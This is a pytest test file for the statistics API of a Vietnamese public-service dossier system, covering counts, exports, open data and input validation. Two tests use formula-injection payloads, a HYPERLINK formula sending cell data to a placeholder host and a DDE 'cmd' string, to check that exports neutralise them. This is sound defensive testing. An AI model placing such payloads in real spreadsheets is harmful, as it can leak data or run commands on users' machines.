"""HTTP API of the statistics (public, JSON errors with Vietnamese and English messages)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from motcua.reports import exports, selectors

URL = "/api/v1/stats/on-time"


@pytest.fixture
def client(client):
    return client


def test_on_time_public_with_every_count(client, table):
    r = client.get(URL, {"from": "2025-03-01", "to": "2025-03-31", "agency": "000.00.21.H26"})
    assert r.status_code == 200, r.content
    body = r.json()
    expected = {
        "received": 8,
        "received_online": 4,
        "received_counter": 2,
        "received_postal": 2,
        "carried_over": 2,
        "resolved": 4,
        "early": 2,
        "on_time": 1,
        "late": 1,
        "stopped": 1,
        "refused": 1,
        "pending_within": 2,
        "pending_overdue": 3,
        "on_time_rate": 75.0,
        "index_2_1": 50.0,
        "from": "2025-03-01",
        "to": "2025-03-31",
        "agency": "000.00.21.H26",
        "field": None,
        "procedure": None,
    }
    assert {k: body[k] for k in expected} == expected
    assert body["received_by_channel"] == {"online": 4, "counter": 2, "postal": 2}


def test_on_time_filters_by_field_and_procedure(client, table):
    r = client.get(URL, {"from": "2025-03-01", "to": "2025-03-31", "field": "ho-kinh-doanh"})
    assert r.status_code == 200
    # D01 D02 D03 (snapshot) + D13 (ward)
    assert (r.json()["received"], r.json()["field"]) == (4, "ho-kinh-doanh")
    for typed in ("Thành lập và hoạt động của hộ kinh doanh", "thanh lap va hoat dong cua ho  kinh doanh"):
        again = client.get(URL, {"from": "2025-03-01", "to": "2025-03-31", "field": typed})
        assert again.status_code == 200 and again.json()["received"] == 4, again.content
    r = client.get(URL, {"from": "2025-03-01", "to": "2025-03-31", "procedure": "1.001002"})
    # D06 D09 D15: all pending at the end of March; nothing resolved
    body = r.json()
    assert (body["received"], body["resolved"], body["on_time_rate"]) == (3, 0, None)
    assert body["index_2_1"] == pytest.approx(66.67)  # D06 D15 within / 3


@pytest.mark.parametrize(
    "params,status",
    [
        ({"to": "2025-03-31"}, 422),
        ({"from": "2025-03-01"}, 422),
        ({"from": "01-03-2025x", "to": "2025-03-31"}, 422),
        ({"from": "2025-02-30", "to": "2025-03-31"}, 422),
        ({"from": "2025-04-01", "to": "2025-03-31"}, 422),
        ({"from": "2025-03-01", "to": "2025-03-31", "agency": "000.99.99.H26"}, 404),
        ({"from": "2025-03-01", "to": "2025-03-31", "field": "khong-ton-tai"}, 404),
        ({"from": "2025-03-01", "to": "2025-03-31", "procedure": "9.999999"}, 404),
    ],
)
def test_on_time_bad_input(client, world, params, status):
    r = client.get(URL, params)
    assert r.status_code == status
    body = r.json()
    assert body["message"] and body["message_en"] and body["message"] != body["message_en"]


def test_breakdown_api(client, table):
    r = client.get(
        "/api/v1/stats/breakdown", {"from": "2025-03-01", "to": "2025-03-31", "by": "field", "agency": "H26"}
    )
    assert r.status_code == 200
    body = r.json()
    rows = {row["key"]: row for row in body["rows"]}
    assert rows["ho-kinh-doanh"]["received"] == 4 and rows["thanh-lap-doanh-nghiep"]["received"] == 5
    assert body["total"]["received"] == 9
    bad = client.get("/api/v1/stats/breakdown", {"from": "2025-03-01", "to": "2025-03-31", "by": "week"})
    assert bad.status_code == 422 and "by" in bad.json()["message_en"]


def test_xlsx_cells_equal_api_figures(client, table):
    params = {"from": "2025-03-01", "to": "2025-03-31", "agency": "000.00.21.H26"}
    r = client.get("/api/v1/stats/export.xlsx", params)
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(r.content)).active
    header = [ws.cell(6, c).value for c in range(3, 3 + len(exports.XLSX_COLUMNS))]
    assert header[:4] == ["Tổng số", "Trực tuyến", "Trực tiếp, bưu chính", "Kỳ trước chuyển qua"]
    # rows: one per field (sorted by name: "Thành lập và hoạt động..." < "Thành lập và phát triển..."), totals
    assert ws.cell(7, 2).value == "Thành lập và hoạt động của hộ kinh doanh"
    assert ws.cell(8, 2).value == "Thành lập và phát triển doanh nghiệp"
    assert ws.cell(9, 2).value == "Tổng cộng"
    api = client.get(URL, params).json()
    total = {key: ws.cell(9, 3 + i).value for i, (_g, _l, key) in enumerate(exports.XLSX_COLUMNS)}
    assert total["intake_total"] == api["received"] + api["carried_over"] == 10
    assert total["received_online"] == api["received_online"]
    assert total["received_direct"] == api["received_counter"] + api["received_postal"]
    for key in (
        "carried_over",
        "resolved",
        "early",
        "on_time",
        "late",
        "pending",
        "pending_within",
        "pending_overdue",
        "stopped",
        "refused",
        "on_time_rate",
        "index_2_1",
    ):
        assert total[key] == api[key], key
    hkd = {key: ws.cell(7, 3 + i).value for i, (_g, _l, key) in enumerate(exports.XLSX_COLUMNS)}
    field_api = client.get(URL, {**params, "field": "ho-kinh-doanh"}).json()
    assert (
        (hkd["resolved"], hkd["early"], hkd["on_time"], hkd["late"])
        == (
            field_api["resolved"],
            field_api["early"],
            field_api["on_time"],
            field_api["late"],
        )
        == (3, 1, 1, 1)
    )


def test_open_data_has_no_personal_data(client, table):
    r = client.get("/api/v1/stats/open-data.json", {"from": "2025-03-01", "to": "2025-03-31"})
    assert r.status_code == 200
    body = r.json()
    text = r.content.decode()
    assert "Nguyễn" not in text and "TEST-D" not in text
    assert body["total"]["received"] == 9
    assert sum(row["received"] for row in body["rows"]) == 9
    c = client.get("/api/v1/stats/open-data.csv", {"from": "2025-03-01", "to": "2025-03-31"})
    assert c.status_code == 200 and c["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(c.content.decode("utf-8-sig"))))
    assert sum(int(row["received"]) for row in rows) == 9
    assert {row["agency_identifier"] for row in rows} == {"000.00.21.H26", "000.01.33.H26"}
    assert set(rows[0]) == set(exports.OPEN_DATA_COLUMNS)


def test_index766_api(client, table):
    r = client.get(
        "/api/v1/stats/index766", {"from": "2025-03-01", "to": "2025-03-31", "agency": "000.00.21.H26"}
    )
    assert r.status_code == 200
    row = r.json()["rows"][0]
    ind = {i["code"]: i for i in row["indicators"]}
    assert ind["2.1"]["value"] == 50.0
    assert ind["2.1"]["score"] == 10.0  # no target: 50 % of Pmax 20
    assert ind["3.3"]["value"] == 50.0  # 4 online / 8 received
    assert ind["3.3"]["score"] == 4.0  # target 50 % reached: Pmax
    assert ind["5.4"]["value"] is None and ind["5.4"]["score"] is None
    assert ind["5.4"]["note"] == "không có dữ liệu"
    # 2.2 working-day figures: see test_index766
    assert ind["2.2"]["detail"]["completed"] == 4


def test_api_matches_selector(client, table, world):
    params = {"from": "2025-03-01", "to": "2025-03-31", "agency": "H26"}
    body = client.get(URL, params).json()
    direct = selectors.on_time_stats(date_from="2025-03-01", date_to="2025-03-31", agency=world["hn"])
    assert {k: body[k] for k in selectors.COUNT_KEYS} == {k: direct[k] for k in selectors.COUNT_KEYS}


def test_xlsx_keeps_a_name_that_looks_like_a_formula_as_text(client, table):
    """A field or agency name typed by an administrator that begins with "=" is written as text: a spreadsheet
    opened by an overseer must not run it (formula injection)."""
    from motcua.catalog.models import Field

    name = '=HYPERLINK("http://example.invalid/?x="&A1,"Mở")'
    Field.objects.filter(name="Thành lập và hoạt động của hộ kinh doanh").update(name=name)
    params = {"from": "2025-03-01", "to": "2025-03-31", "agency": "000.00.21.H26"}
    r = client.get("/api/v1/stats/export.xlsx", params)
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [ws.cell(row, 2) for row in range(7, 10)]
    named = [c for c in cells if c.value == name]
    assert len(named) == 1 and named[0].data_type == "s"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_open_data_csv_writes_a_name_that_looks_like_a_formula_as_text(client, table, start):
    """A field or agency name (from the catalogue import or the admin) that a spreadsheet would read as a formula is
    written with a leading apostrophe (OWASP CSV injection); the other names and every figure are written as they
    are."""
    from motcua.catalog.models import Field
    from motcua.org.models import Agency

    field = start + 'HYPERLINK("http://example.invalid/?x="&A1,"Mở")'
    Field.objects.filter(name="Thành lập và hoạt động của hộ kinh doanh").update(name=field)
    Agency.objects.filter(identifier="000.01.33.H26").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    params = {"from": "2025-03-01", "to": "2025-03-31"}
    c = client.get("/api/v1/stats/open-data.csv", params)
    rows = list(csv.DictReader(io.StringIO(c.content.decode("utf-8-sig"), newline="")))
    assert "'" + field in {row["field_name"] for row in rows}
    assert {row["agency_name"] for row in rows if row["agency_identifier"] == "000.01.33.H26"} == {
        "'@SUM(1+1)*cmd|' /C calc'!A0"
    }
    assert all(not row[k].startswith(exports.FORMULA_STARTS) for row in rows for k in row)
    # the figures are those of the JSON, unchanged
    body = client.get("/api/v1/stats/open-data.json", params).json()
    figures = [*selectors.COUNT_KEYS, *selectors.RATE_KEYS]
    as_json = sorted(tuple("" if r[k] is None else str(r[k]) for k in figures) for r in body["rows"])
    assert sorted(tuple(row[k] for k in figures) for row in rows) == as_json


def test_open_data_csv_cell_leaves_numbers_alone():
    assert exports.csv_cell(-3) == -3 and exports.csv_cell(-2.5) == -2.5 and exports.csv_cell(0) == 0
    assert exports.csv_cell(None) == "" and exports.csv_cell("Hà Nội") == "Hà Nội"
    assert exports.csv_cell("-1") == "'-1"  # text that would be read as a formula, even a number-like one


def test_exports_and_page_say_alike_when_the_figures_are_counted(client, table):
    """A finished period's figures are counted at the end of its last day: the workbook, the PDF report and the
    page all say 'hết ngày 31/03/2025' (the workbook and the page used to say '00:00 01/04/2025', which reads as
    if 1 April were counted, while the PDF said 'hết ngày 31/03/2025')."""
    import datetime as dt

    from motcua.reports import pdf

    march = {"from": "2025-03-01", "to": "2025-03-31", "agency": "000.00.21.H26"}
    ws = load_workbook(io.BytesIO(client.get("/api/v1/stats/export.xlsx", march).content)).active
    assert ws.cell(4, 1).value == "Số liệu tính đến hết ngày 31/03/2025"
    context = pdf.report_context(date_from="2025-03-01", date_to="2025-03-31")
    assert context["as_of_text"] == "hết ngày 31/03/2025"
    page = client.get("/thong-ke/", march).content.decode()
    assert "Số liệu tính đến hết ngày 31/03/2025." in page and "00:00 01/04/2025" not in page
    # a period that includes now: the instant, in the same words everywhere
    now = dt.datetime(2025, 3, 20, 10, 5, tzinfo=selectors.LOCAL)
    assert exports.as_of_text(now) == "10:05 ngày 20/03/2025"
    wb = exports.xlsx_by_field(date_from="2025-03-01", date_to="2025-03-31", now=now)
    assert load_workbook(io.BytesIO(wb)).active.cell(4, 1).value == "Số liệu tính đến 10:05 ngày 20/03/2025"


def test_reversed_period_names_the_dates_day_first_in_both_languages(client, world):
    """The refusal of a reversed period gives the dates as people read them, dd/mm/yyyy, in English as in
    Vietnamese (the English message used to give 2025-04-01, a form the interface never shows)."""
    body = client.get(URL, {"from": "2025-04-01", "to": "2025-03-01"}).json()
    assert body["error"] == "bad_period"
    assert body["message"] == "Ngày bắt đầu (01/04/2025) sau ngày kết thúc (01/03/2025)."
    assert body["message_en"] == "'from' (01/04/2025) is after 'to' (01/03/2025)."


def test_open_data_of_a_field_has_the_page_figures(client, table):
    """The statistics page filtered by a field links to its open data with that field: the CSV and the JSON then
    hold that field's rows and the page's figures (the field was ignored: the open data behind a page showing 3
    resolved dossiers totalled every field's). The CSV's file name says whose data it is."""
    import re

    march = {"from": "2025-03-01", "to": "2025-03-31", "agency": "000.00.21.H26", "field": "ho-kinh-doanh"}
    page = client.get("/thong-ke/", march).content.decode()
    href = re.search(r'href="(/api/v1/stats/open-data\.json\?[^"]+)"', page).group(1).replace("&amp;", "&")
    data = client.get(href).json()
    api = client.get(URL, march).json()
    assert data["field"] == "ho-kinh-doanh"
    assert {r["field_code"] for r in data["rows"]} == {"ho-kinh-doanh"}
    for key in selectors.COUNT_KEYS:
        assert data["total"][key] == api[key] == sum(r[key] for r in data["rows"]), key
    assert (data["total"]["resolved"], data["total"]["late"]) == (
        3,
        1,
    )  # the page's by-field row: 3 resolved, 1 late
    r = client.get("/api/v1/stats/open-data.csv", march)
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["field_code"] for row in rows] == ["ho-kinh-doanh"] * len(data["rows"])
    assert "open-data_000.00.21.H26_ho-kinh-doanh_2025-03-01_2025-03-31.csv" in r["Content-Disposition"]
    # an unknown field is refused as on-time refuses it
    bad = client.get("/api/v1/stats/open-data.json", {**march, "field": "nope"})
    assert bad.status_code == 404 and bad.json()["error"] == "no_field"


@pytest.mark.parametrize("instant", ["9999-12-31T23:00:00-05:00", "0001-01-01T00:00:00+14:00"])
def test_a_datetime_whose_local_date_leaves_the_calendar_is_out_of_range_not_a_500(client, world, instant):
    """A full ISO datetime is read as its local date; one whose local date falls after 9999 or before year 1
    raised OverflowError (HTTP 500 on every statistics endpoint and page)."""
    for path in (URL, "/api/v1/stats/open-data.json", "/api/v1/stats/breakdown"):
        r = client.get(
            path,
            {"from": instant, "to": "2025-03-31"}
            if "0001" in instant
            else {"from": "2025-03-01", "to": instant},
        )
        assert r.status_code == 422, (path, r.content[:300])
        body = r.json()
        assert body["error"] == "bad_period" and "1900–2999" in body["message"] and body["message_en"]


@pytest.mark.parametrize("text", ["2025-W10", "2025-W10-1", "20250301", "2025-060"])
def test_only_the_date_forms_the_message_offers_are_read(client, world, text):
    """Python's date.fromisoformat also reads ISO week dates ("2025-W10" = Monday 03/03/2025) and the basic form:
    `to=2025-W10` silently ended the period on that Monday. The API says which forms it reads; only those."""
    r = client.get(URL, {"from": "2025-01-01", "to": text})
    assert r.status_code == 422, r.content[:300]
    assert r.json()["error"] == "bad_date" and text in r.json()["message"]
    assert selectors.parse_date("2025-03-01", "to") == selectors.parse_date("01/03/2025", "to")
    assert selectors.parse_date("2025-03-01T23:30:00+00:00", "to").isoformat() == "2025-03-02"


@pytest.mark.parametrize(
    "path,param",
    [
        ("/api/v1/stats/index766", "field"),
        ("/api/v1/stats/index766", "procedure"),
        ("/api/v1/stats/open-data.json", "procedure"),
        ("/api/v1/stats/open-data.csv", "procedure"),
    ],
)
def test_a_scope_an_endpoint_cannot_apply_is_refused_not_ignored(client, table, path, param):
    """`?procedure=` on the open data (or `?field=` on the 766 index) was ignored: the answer was the figures of
    the whole agency, which a reader took for the procedure's."""
    period = {"from": "2025-03-01", "to": "2025-03-31", "agency": "000.00.21.H26"}
    value = {"field": "ho-kinh-doanh", "procedure": "1.001612"}[param]
    r = client.get(path, {**period, param: value})
    assert r.status_code == 422, r.content[:300]
    body = r.json()
    assert body["error"] == "unsupported_scope"
    assert f"'{param}'" in body["message"] and f"'{param}'" in body["message_en"]
    assert client.get(path, period).status_code == 200
    assert client.get(path, {**period, param: ""}).status_code == 200  # an empty field of a form is no scope


def test_a_parameter_no_endpoint_takes_is_named_beside_the_figures(client, table):
    """`?agncy=` was ignored without a word: the whole province's figures came back as if they were the agency's.
    They still come back (a portal's cache-busting parameter is no error), with `ignored` naming it and the
    parameter meant; a query without such a parameter has no `ignored` at all."""
    march = {"from": "2025-03-01", "to": "2025-03-31"}
    province = client.get(URL, march).json()
    r = client.get(URL, {**march, "agncy": "000.00.21.H26"})
    assert r.status_code == 200
    body = r.json()
    assert body["received"] == province["received"]  # not the agency's figures: said below
    assert [i["key"] for i in body["ignored"]] == ["agncy"]
    assert "Có phải ý bạn là 'agency'?" in body["ignored"][0]["message"]
    assert "not used" in body["ignored"][0]["message_en"]
    assert "ignored" not in province and "ignored" not in client.get(URL, {**march, "agency": "H26"}).json()
    r = client.get("/api/v1/stats/breakdown", {**march, "by": "field", "feild": "ho-kinh-doanh"})
    assert r.status_code == 200 and [i["key"] for i in r.json()["ignored"]] == ["feild"]
    # the satisfaction figures and the Decision 766 index said nothing of it either
    for path in ("/api/v1/stats/satisfaction", "/api/v1/stats/index766"):
        r = client.get(path, {**march, "agncy": "000.00.21.H26"})
        assert r.status_code == 200 and [i["key"] for i in r.json()["ignored"]] == ["agncy"], path
        assert "Có phải ý bạn là 'agency'?" in r.json()["ignored"][0]["message"]
        r = client.get(
            path,
            {**march, "agency": "000.00.21.H26", "by": "quarter", "children": "true"}
            if path.endswith("766")
            else {**march, "agency": "000.00.21.H26"},
        )
        assert r.status_code == 200 and "ignored" not in r.json(), path


@pytest.mark.parametrize("path", ["export.xlsx", "export.pdf", "open-data.csv"])
def test_a_file_export_refuses_a_parameter_it_does_not_take(client, table, path):
    """A spreadsheet, a PDF or a CSV cannot carry `ignored`: with `?agncy=` the whole province's file was made and
    read (or published) as the agency's. It is refused, naming the parameter and the one meant; the file of the
    right query is made as before."""
    march = {"from": "2025-03-01", "to": "2025-03-31"}
    r = client.get(f"/api/v1/stats/{path}", {**march, "agncy": "000.00.21.H26"})
    assert r.status_code == 422 and r["Content-Type"].startswith("application/json")
    body = r.json()
    assert body["error"] == "unknown_parameter"
    assert body["message"].startswith("Tệp không được tạo: tham số 'agncy' (có phải ý bạn là 'agency'?)")
    assert body["message_en"].startswith("No file was made: 'agncy' (did you mean 'agency'?)")
    assert client.get(f"/api/v1/stats/{path}", {**march, "agency": "000.00.21.H26"}).status_code == 200


def test_the_files_of_a_period_not_started_say_so_and_open_data_is_dated(client, table):
    """A report downloaded for next month read as that month's report (2.1 at 100 %, carried over = today's
    pending): the PDF and XLSX say the period has not begun, as the pages do; open data carries its as-of instant."""
    import openpyxl

    from .test_pdf_report import pdf_text

    future = {"from": "2999-01-01", "to": "2999-01-31"}
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/api/v1/stats/export.xlsx", future).content)).active
    assert "Kỳ báo cáo chưa bắt đầu" in sheet.cell(4, 1).value
    assert "Kỳ báo cáo chưa bắt đầu" in pdf_text(
        client.get("/api/v1/stats/export.pdf", future).content, future
    )
    body = client.get("/api/v1/stats/open-data.json", future).json()
    assert body["notice"].startswith("Kỳ báo cáo chưa bắt đầu")
    march = {"from": "2025-03-01", "to": "2025-03-31"}
    past = openpyxl.load_workbook(io.BytesIO(client.get("/api/v1/stats/export.xlsx", march).content)).active
    assert "chưa bắt đầu" not in past.cell(4, 1).value
    body = client.get("/api/v1/stats/open-data.json", march).json()
    assert "notice" not in body and body["as_of"] == "2025-04-01T00:00:00+07:00"  # the end of March
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/api/v1/stats/open-data.csv", march).content.decode("utf-8-sig"))
        )
    )
    assert {row["as_of"] for row in rows} == {"2025-04-01T00:00:00+07:00"}


def test_satisfaction_of_a_field_or_procedure_counts_its_dossiers_ratings(client, table, world):
    """The public page and the API gave all the agency's ratings under a field filter while the overseer's page gave
    the field's: the ratings are now those of the dossiers in the field (or procedure); the PAKN stay the agency's,
    and the answer says so."""
    from motcua.feedback.models import Rating

    from .conftest import at

    Rating.objects.create(dossier=table["D01"], overall=4, created_at=at(2025, 3, 8, 9))
    other = table["D01"].__class__.objects.exclude(procedure=table["D01"].procedure).first()
    assert other is not None
    Rating.objects.create(dossier=other, overall=1, created_at=at(2025, 3, 9, 9))
    march = {"from": "2025-03-01", "to": "2025-03-31"}
    whole = client.get("/api/v1/stats/satisfaction", march).json()
    assert whole["ratings"] == 2 and "pakn_scope" not in whole
    one = client.get("/api/v1/stats/satisfaction", {**march, "procedure": table["D01"].procedure.code}).json()
    assert (one["ratings"], one["satisfied_rate"], one["procedure"]) == (
        1,
        100.0,
        table["D01"].procedure.code,
    )
    assert one["pakn_scope"].startswith("agency and period")
    assert one["pakn"] == whole["pakn"]
    page = client.get("/thong-ke/", {**march, "procedure": table["D01"].procedure.code}).content.decode()
    assert 'data-figure="ratings">1<' in page and "Đánh giá của người nộp: của các hồ sơ thuộc" in page
